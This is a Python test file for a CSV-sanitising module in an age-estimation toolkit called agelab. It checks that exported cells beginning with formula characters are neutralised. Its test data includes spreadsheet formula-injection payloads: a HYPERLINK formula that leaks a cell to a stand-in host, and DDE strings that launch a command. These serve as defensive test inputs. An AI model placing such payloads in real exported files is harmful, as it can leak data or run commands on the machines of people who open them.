"""CSV files agelab writes cannot run as spreadsheet formulas (:mod:`agelab.csvsafe`).

Text cells from the user's data (file names, subject ids, grid values, run names) that start
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading ``'``; numbers stay
numbers. Checked on the three CSV files agelab produces: a trial's ``predictions.csv``, the
report's ``runs.csv`` and ``agelab data synth --out``'s ``labels.csv``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch

from agelab.csvsafe import safe_cell, safe_frame
from agelab.data.dataset import FaceDataset
from agelab.data.export import export_folder
from agelab.data.sources import read_csv
from agelab.objective import _predictions_table
from agelab.report import Design, analyse
from agelab.report.render import write

EVIL = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
]


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        *((v, "'" + v) for v in [*EVIL, "\r=1"]),
        ("-3.5", "-3.5"),  # a plain number as text: a spreadsheet reads the number
        ("+12", "+12"),
        ("-1e-3", "-1e-3"),
        ("batch", "batch"),
        ("a=b", "a=b"),
        ("'=quoted", "'=quoted"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_safe_cell(value, safe) -> None:
    assert safe_cell(value) == safe


def test_safe_frame_touches_text_columns_only() -> None:
    frame = pd.DataFrame({"x": [-1.0, 2.0], "name": ["=cmd", "ok"], "=col": [1, 2]})
    out = safe_frame(frame)
    assert out["x"].tolist() == [-1.0, 2.0] and out["name"].tolist() == ["'=cmd", "ok"]
    assert list(out.columns) == ["x", "name", "'=col"]
    assert frame["name"].tolist() == ["=cmd", "ok"], "the input is not changed"


def faces(n: int, subjects: list[str], paths: list[str] | None = None) -> FaceDataset:
    return FaceDataset(
        images=torch.zeros((n, 3, 16, 16), dtype=torch.uint8),
        ages=np.linspace(10, 60, n).astype(np.float32),
        subjects=np.asarray(subjects, dtype=str),
        split=np.asarray(["train", "calib", "test"] * n, dtype="<U5")[:n],
        fingerprint="x",
        source="csv",
        paths=None if paths is None else np.asarray(paths, dtype=str),
    )


def test_predictions_csv(tmp_path: Path) -> None:
    n = len(EVIL)
    data = faces(n, EVIL, [f"{v}.jpg" for v in EVIL])
    pred = data.ages - 3.0  # every residual negative: numbers that start with "-"
    _predictions_table(data, pred).to_csv(tmp_path / "predictions.csv", index=False)
    rows = read_rows(tmp_path / "predictions.csv")
    assert [r["subject"] for r in rows] == ["'" + v for v in EVIL]
    assert [r["path"] for r in rows] == [f"'{v}.jpg" for v in EVIL]
    assert {float(r["residual"]) for r in rows} == {-3.0}
    assert all(r["residual"].startswith("-") for r in rows), "numbers stay numbers"


def test_runs_csv_of_the_report(tmp_path: Path) -> None:
    space = {"model.act": ["=cmd|' /C calc'!A0", "@relu"]}
    design = Design.from_space(space, [0, 1])
    table = pd.DataFrame(
        [
            {"model.act": act, "seed": s, "mae": 10.0 + i + s, "state": "COMPLETE"}
            for i, act in enumerate(space["model.act"])
            for s in (0, 1)
        ]
    )
    write(analyse(table, design), tmp_path, meta={"study": "evil"}, figures=False)
    rows = read_rows(tmp_path / "runs.csv")
    acts = {r["model.act"] for r in rows}
    assert acts == {"'=cmd|' /C calc'!A0", "'@relu"}
    assert {float(r["mae"]) for r in rows} == {10.0, 11.0, 12.0}


def test_exported_labels_csv(tmp_path: Path) -> None:
    subjects = ["=1+1", "@SUM(A1)", "-5", "anna"]
    export_folder(faces(4, subjects), tmp_path / "out", progress=False)
    rows = read_rows(tmp_path / "out" / "labels.csv")
    assert [r["subject"] for r in rows] == ["'=1+1", "'@SUM(A1)", "-5", "anna"]
    # ...and agelab reads its own export back as a manifest, ages as numbers.
    manifest = read_csv(tmp_path / "out" / "labels.csv")
    assert manifest.table["age"].tolist() == pytest.approx([10.0, 26.667, 43.333, 60.0])
